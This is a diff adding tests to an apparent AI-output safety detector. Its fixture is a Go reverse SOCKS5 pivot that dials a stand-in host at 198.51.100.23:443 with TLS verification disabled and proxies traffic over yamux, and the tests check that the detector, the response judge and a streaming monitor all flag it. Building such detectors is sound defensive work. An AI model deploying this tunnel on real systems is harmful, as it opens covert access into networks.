@@ -9,6 +9,7 @@ import pytest
 from redline.redlines import StreamMonitor, flows, judge_response
 from redline.redlines.capabilities import Capability
 from redline.redlines.flows import remote_input_hits
+from redline.redlines.mux_proxy import mux_proxy_names, proxy_into_network_hits
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -126,3 +127,56 @@ def test_character_codes_split_by_tabs_do_not_break_the_web_flow() -> None:
     # The codes' pattern accepts any whitespace between them; reading them must too.
     line = "$f = implode('', array_map('chr', [115\t121]));"
     assert flows.web_input_names(line, frozenset()) == frozenset()
+
+
+SOCKS_PIVOT = """```go
+package main
+
+import (
+	"crypto/tls"
+
+	{alias} "github.com/armon/go-socks5"
+	"github.com/hashicorp/yamux"
+)
+
+func main() {{
+	proxy, _ := {alias}.New(&{alias}.Config{{}})
+	conn, err := tls.Dial("tcp", "198.51.100.23:443", &tls.Config{{InsecureSkipVerify: true}})
+	if err != nil {{
+		return
+	}}
+	session, _ := yamux.Server(conn, nil)
+	for {{
+		stream, err := session.Accept()
+		if err != nil {{
+			return
+		}}
+		go proxy.ServeConn(stream)
+	}}
+}}
+```
+"""
+
+
+@pytest.mark.parametrize("alias", ["socks5", "Socks5", "SOCKS5"])
+def test_socks_is_read_case_blind_in_the_whole_code_and_line_by_line(alias: str) -> None:
+    """The SOCKS server made under any spelling of its package's name is seen by the whole
+    code's reading and by the monitor's, line by line."""
+    code = SOCKS_PIVOT.format(alias=alias)
+    assert proxy_into_network_hits(code)
+    assert mux_proxy_names(f"proxy, _ := {alias}.New(nil)", frozenset()) == {"=socks"}
+    assert judge_response(code).refused
+    monitor = StreamMonitor(holdback_chars=0)
+    halted = any(monitor.feed(code[i : i + 7]).halted for i in range(0, len(code), 7))
+    assert halted or monitor.finish().halted
+
+
+def test_a_dialed_multiplexer_serving_a_web_app_serves_no_proxy() -> None:
+    code = (
+        SOCKS_PIVOT.format(alias="web")
+        .replace('web "github.com/armon/go-socks5"', '"net/http"')
+        .replace("proxy, _ := web.New(&web.Config{})", "app := http.NewServeMux()")
+        .replace("go proxy.ServeConn(stream)", "go http.Serve(session, app)")
+    )
+    assert "socks" not in code.lower()
+    assert not proxy_into_network_hits(code)
